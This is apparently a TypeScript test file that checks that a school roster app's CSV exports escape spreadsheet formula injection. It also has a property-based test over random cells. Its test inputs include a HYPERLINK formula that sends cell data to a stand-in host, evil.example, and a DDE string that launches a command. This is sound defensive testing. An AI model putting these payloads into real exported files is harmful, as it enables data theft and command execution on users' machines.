import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csv } from '../../../src/platform/csv/csv.ts';
import { csvOf } from '../../../web/src/teach/classes/roster/roster-text.ts';

/** What stands in a table is what pupils, or who wrote their list, wanted to stand there. */
const writers = [
  {
    name: 'the report of faults in a list, with commas',
    delimiter: ',',
    write: (rows: string[][]) => csvOf(rows, ','),
  },
  {
    name: 'the report of faults in a list, with semicolons',
    delimiter: ';',
    write: (rows: string[][]) => csvOf(rows, ';'),
  },
  { name: 'what the server exports', delimiter: ',', write: csv },
] as const;

describe.each(writers)('[EDG-9] $name', ({ delimiter, write }) => {
  const read = (text: string): string[][] => parse(text, { delimiter, bom: true });
  const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

  test.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1;1)',
    '\t=1+1',
    '\r=1+1',
  ])('holds %j as text', (cell) => {
    const [row] = read(write([['1', cell, 'end']]));
    expect(row).toEqual(['1', `'${cell}`, 'end']);
  });

  test('has no cell that is a formula, and loses nothing, whatever stands in the cells', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', 'a') }),
    );
    const table = fc
      .integer({ min: 2, max: 4 })
      .chain((width) =>
        fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
      );
    fc.assert(
      fc.property(table, (rows) => {
        const back = read(write(rows));
        expect(back).toHaveLength(rows.length);
        for (const [y, row] of back.entries())
          for (const [x, one] of row.entries()) {
            expect(isFormula(one)).toBe(false);
            expect([rows[y]![x], `'${rows[y]![x]}`]).toContain(one);
          }
      }),
    );
  });
});
